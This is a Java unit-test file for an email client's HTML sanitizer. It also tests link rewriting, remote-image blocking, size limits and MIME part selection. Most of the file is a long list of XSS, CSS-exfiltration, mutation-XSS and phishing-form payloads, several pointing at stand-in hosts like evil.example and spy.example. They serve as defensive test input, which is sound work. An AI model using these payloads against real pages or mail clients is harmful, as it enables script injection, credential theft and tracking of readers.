package dev.mailroom.sync.message;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {
    private static final String PIXEL =
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    private static final Set<String> ATTRIBUTES = Set.of(
            "abbr",
            "align",
            "alt",
            "bgcolor",
            "border",
            "cellpadding",
            "cellspacing",
            "color",
            "colspan",
            "datetime",
            "dir",
            "face",
            "height",
            "href",
            "lang",
            "loading",
            "nowrap",
            "referrerpolicy",
            "rel",
            "reversed",
            "rowspan",
            "scope",
            "size",
            "span",
            "src",
            "start",
            "style",
            "target",
            "title",
            "type",
            "valign",
            "value",
            "width");

    private static final Pattern FETCHING = Pattern.compile("url\\(|expression|@import|-moz-binding|behavior|image\\(");

    /** Each would run, fetch, send, lay something over the page or break out of it in some program that shows mail. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script/x>alert(1)</script >",
                "<<script>alert(1)//<</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=x:x onerror\n=\nalert(1)>",
                "<img/src=x/onerror=alert(1)//>",
                "<img src='x'onerror='alert(1)'>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<body onload=alert(1)>hello",
                "<p onmouseover=alert(1) ONCLICK=alert(2)>x</p>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href=' javascript:alert(1)'>x</a>",
                "<a href='java\tscript:alert(1)'>x</a>",
                "<a href='java\nscript:alert(1)'>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>",
                "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
                "<a href='\u0001javascript:alert(1)'>x</a>",
                "<a href='JaVaScRiPt:alert(1)'>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
                "<a href='file:///etc/passwd'>x</a>",
                "<a href='blob:https://app.example/1'>x</a>",
                "<a href='//evil.example\\@good.example'>x</a>",
                "<a href='https://good.example@evil.example/'>x</a>",
                "<a href='/v1/accounts'>x</a>",
                "<a href='../../logout'>x</a>",
                "<a href='https://x.example' ping='https://spy.example'>x</a>",
                "<a href='https://x.example' download>x</a>",
                "<img src='javascript:alert(1)'>",
                "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
                "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
                "<img src='data:text/html;base64,PHNjcmlwdD4='>",
                "<img src='data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
                "<img src='https://spy.example/p.gif' srcset='https://spy.example/2x.gif 2x'>",
                "<img lowsrc='https://spy.example/p.gif' dynsrc='https://spy.example/p.avi'>",
                "<img src='http://spy.example/p.gif'>",
                "<img src='//spy.example/p.gif'>",
                "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>",
                "<input type=image src=https://spy.example/p.gif>",
                "<table background=https://spy.example/p.gif><tr><td background='javascript:alert(1)'>x</td></tr></table>",
                "<video poster=https://spy.example/p.gif src=https://spy.example/v.mp4></video>",
                "<audio src=https://spy.example/a.mp3 autoplay>",
                "<picture><source srcset=https://spy.example/p.gif><img></picture>",
                "<link rel=stylesheet href=https://spy.example/s.css>",
                "<link rel=prefetch href=https://spy.example/>",
                "<link rel=dns-prefetch href=//spy.example>",
                "<base href='javascript:alert(1)//'><a href='/x'>x</a>",
                "<base href='https://evil.example/'><a href='x'>x</a>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<meta http-equiv=Set-Cookie content='a=b'>",
                "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
                "<object data=javascript:alert(1)></object>",
                "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
                "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
                "<applet code=Evil.class></applet>",
                "<form action=https://evil.example><input name=password><button>Log in</button></form>",
                "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
                "<isindex action=javascript:alert(1) type=image>",
                "<textarea><script>alert(1)</script></textarea>",
                "<textarea autofocus onfocus=alert(1)>",
                "<select><option><script>alert(1)</script></option></select>",
                "<keygen autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<dialog open>x</dialog>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x></svg>",
                "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
                "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\"></style></h1>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<plaintext><img src=x onerror=alert(1)>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
                "<!--#exec cmd=\"id\"-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml-stylesheet href='javascript:alert(1)'?>",
                "<!DOCTYPE html SYSTEM 'https://spy.example/x.dtd'>",
                "<style>@import 'https://spy.example/s.css';</style>",
                "<style>body{background:url(https://spy.example/p.gif)}</style>",
                "<style></style><img src=x onerror=alert(1)></style>",
                "<div style='background:url(https://spy.example/p.gif)'>x</div>",
                "<div style='background:u\\72l(https://spy.example/p.gif)'>x</div>",
                "<div style='background:/**/url(//spy.example/p.gif)'>x</div>",
                "<div style='background-image:image-set(\"https://spy.example/p.gif\" 1x)'>x</div>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<div style='width:expr/**/ession(alert(1))'>x</div>",
                "<div style='behavior:url(#default#time2)'>x</div>",
                "<div style='-moz-binding:url(//evil.example/x.xml#x)'>x</div>",
                "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
                "<div style='margin-left:-9999px'>x</div>",
                "<div style='font-family:\"x;color:red;background:url(//spy.example)'>x</div>",
                "<div style='color:red}body{background:url(//spy.example)'>x</div>",
                "<div style='list-style-image:url(//spy.example/p.gif);cursor:url(//spy.example/c.cur)'>x</div>",
                "<div style='content:attr(title);--x:url(//spy.example)'>x</div>",
                "<div style='width:calc(1px*99999)'>x</div>",
                "<img id=body name=cookie>",
                "<a id=location name=location href=https://x.example>x</a>",
                "<form name=document><img name=getElementById></form>",
                "<div id=__proto__ class='admin hidden' data-bind='x' is=x slot=y contenteditable tabindex=1 accesskey=x>x</div>",
                "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
                "<p title=\"`><img src=x onerror=alert(1)>\">x</p>",
                "<img alt='`<script>alert(1)</script>'>",
                "<p lang='\" onclick=alert(1) x=\"'>x</p>",
                "<font face='x\" onmouseover=\"alert(1)'>x</font>",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<img src=\u0000x onerror=alert(1)>",
                "\u2028<script\u2028>alert(1)</script>",
                "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
                "<custom-element onclick=alert(1)>x</custom-element>",
                "<a href='mailto:x@y.example\" onclick=alert(1)'>x</a>",
                "<a target=_top href='https://x.example'>x</a>",
                "<b><p><i></b><script>alert(1)</script></i></p>",
                "<table><script>alert(1)</script><tr><td><a href=javascript:alert(1)>x"
            })
    void letsNothingThroughThatRunsOrFetches(String attack) {
        SafeHtml safe = SafeHtml.of(attack, id -> null, false);

        assertIsHarmless(safe.html());
        assertThat(SafeHtml.of(safe.html(), id -> null, false).html()).isEqualTo(safe.html());
        assertIsHarmless(SafeHtml.of("<div>" + attack + attack + "</div>", id -> null, false)
                .html());
    }

    static void assertIsHarmless(String html) {
        for (Element element : Jsoup.parse(html).body().getAllElements()) {
            assertThat(element.normalName())
                    .isNotIn(
                            "script", "style", "svg", "math", "iframe", "object", "form", "input", "base", "meta",
                            "link");
            if (element.normalName().equals("body")) {
                assertThat(element.attributes().isEmpty()).isTrue();
            }
            for (Attribute attribute : element.attributes()) {
                assertThat(ATTRIBUTES).contains(attribute.getKey());
                String value = attribute.getValue().toLowerCase(java.util.Locale.ROOT);
                switch (attribute.getKey()) {
                    case "href" -> assertThat(value).matches("(https?://[a-z0-9._-]+([:/?#].*)?|mailto:\\S*|tel:\\S*)");
                    case "src" -> assertThat(value).startsWith("data:image/png;base64,ivborw0k");
                    case "target" -> assertThat(value).isEqualTo("_blank");
                    case "style" -> {
                        assertThat(FETCHING.matcher(value).find()).as(value).isFalse();
                        assertThat(value).doesNotContain("position", "\\", "calc", "--", ":-");
                    }
                    default -> {
                        // A word that means nothing to a browser.
                    }
                }
            }
        }
    }

    @Test
    void keepsWhatALetterIsMadeOf() {
        String letter =
                "<h1 align=\"center\">Hi</h1><p style=\"color:#333;font-family:'Segoe UI', Arial\">A <b>bold</b> word</p>"
                        + "<table border=\"0\" cellpadding=\"2\"><tbody><tr><td colspan=\"2\" bgcolor=\"#eee\">cell</td></tr></tbody></table>"
                        + "<ul><li>one</li></ul><blockquote>said</blockquote>";

        assertThat(SafeHtml.of(letter, id -> null, false).html()).isEqualTo(letter);
    }

    @Test
    void keepsColoursAsFunctionsAndDropsOtherDeclarationsOneByOne() {
        assertThat(SafeStyle.of("COLOR: rgba(1, 2, 3, .5) ; position:absolute; border:1px solid rgb(0,0,0);top:0"))
                .isEqualTo("color:rgba(1, 2, 3, .5);border:1px solid rgb(0,0,0)");
        assertThat(SafeStyle.of("width:rgb(url(x))")).isEmpty();
        assertThat(SafeStyle.of("color:red;".repeat(1_000))).isEmpty();
    }

    @Test
    void blocksImagesFromElsewhereAndCountsThem() {
        String html =
                "<img src='https://a.example/1.png' alt='logo'><img src='http://a.example/2.png'><img src='//a.example/3.png'>"
                        + "<table background='https://a.example/4.png'></table><div style='background:url(https://a.example/5.png)'>x</div>";

        SafeHtml blocked = SafeHtml.of(html, id -> null, false);
        SafeHtml shown = SafeHtml.of(html, id -> null, true);

        assertThat(blocked.remoteImages()).isEqualTo(5);
        assertThat(blocked.html()).doesNotContain("a.example").contains("alt=\"logo\"");
        assertThat(shown.remoteImages()).isEqualTo(5);
        assertThat(Jsoup.parse(shown.html()).select("img").eachAttr("src"))
                .containsExactly("https://a.example/1.png", "https://a.example/2.png", "https://a.example/3.png");
        assertThat(shown.html()).contains("referrerpolicy=\"no-referrer\"");
    }

    @Test
    void showsTheMessagesOwnPicturesAndSmallOnesInTheText() {
        SafeHtml safe = SafeHtml.of(
                "<img src='cid:logo@x'><img src='cid:other'><img src='" + PIXEL + "'>",
                id -> id.equals("logo@x") ? "/v1/messages/1/attachments/2" : null,
                false);

        assertThat(Jsoup.parse(safe.html()).select("img").eachAttr("src"))
                .containsExactly("/v1/messages/1/attachments/2", PIXEL);
        assertThat(safe.remoteImages()).isZero();
    }

    @Test
    void linksSayWhereTheyLeadInAsciiAndTellNobodyWhereTheyWere() {
        Element link = Objects.requireNonNull(Jsoup.parse(SafeHtml.of(
                                "<a href='https://ex\u0430mple.com/p?q=1' title='https://example.com'>x</a>",
                                id -> null,
                                false)
                        .html())
                .selectFirst("a"));

        assertThat(link.attr("href")).isEqualTo("https://xn--exmple-4nf.com/p?q=1");
        assertThat(link.attr("title")).isEqualTo(link.attr("href"));
        assertThat(link.attr("rel")).isEqualTo("noopener noreferrer nofollow");
    }

    @Test
    void neverLooksAtMoreTagsOrLevelsThanTheLimits() {
        SafeHtml wide = SafeHtml.of("<b>x".repeat(SafeHtml.TAGS_MAX + 10) + "end", id -> null, false);
        SafeHtml deep = SafeHtml.of("<div>".repeat(20_000) + "deep", id -> null, false);
        SafeHtml again = SafeHtml.of(("<b><i><u><s><tt>" + "<p>".repeat(5)).repeat(2_000), id -> null, false);

        assertThat(wide.truncated()).isTrue();
        assertThat(wide.html()).doesNotContain("end");
        assertThat(deep.html()).contains("deep");
        int levels = 0;
        for (Element at = Jsoup.parse(deep.html()).selectFirst("div"); at != null; at = at.firstElementChild()) {
            levels++;
        }
        assertThat(levels).isBetween(1, SafeHtml.DEPTH_MAX);
        assertThat(again.truncated()).isFalse();
        assertThat(SafeHtml.of("x".repeat(SafeHtml.HTML_MAX_CHARS + 1), id -> null, false)
                        .truncated())
                .isTrue();
    }

    @Test
    void showsPlainTextAsItIs() {
        assertThat(SafeHtml.ofText("a <b> & c\n  d").html())
                .isEqualTo("<div style=\"white-space:pre-wrap\">a &lt;b&gt; &amp; c\n  d</div>");
    }

    @Test
    void choosesTheTextsAsMailProgramsDo() {
        MimePart plain = leaf("1.1", "text/plain");
        MimePart html = leaf("1.2.1", "text/html");
        MimePart related = multipart("1.2", "multipart/related", html, leaf("1.2.2", "image/png"));
        MimePart calendar = leaf("1.3", "text/calendar");
        MimePart alternative = multipart("1", "multipart/alternative", plain, related, calendar);
        MimePart footer = leaf("3", "text/plain");

        assertThat(ShownContent.texts(
                        multipart(null, "multipart/mixed", alternative, leaf("2", "application/pdf"), footer)))
                .containsExactly(html, footer);
        assertThat(ShownContent.texts(multipart(null, "multipart/alternative", plain, calendar)))
                .containsExactly(plain);
        assertThat(ShownContent.texts(leaf("1", "application/pdf"))).isEmpty();
    }

    private static MimePart leaf(String id, String type) {
        return new MimePart(id, type, null, "7bit", null, null, null, 1, List.of());
    }

    private static MimePart multipart(@org.jspecify.annotations.Nullable String id, String type, MimePart... parts) {
        return new MimePart(id, type, null, "7bit", null, null, null, 0, List.of(parts));
    }
}
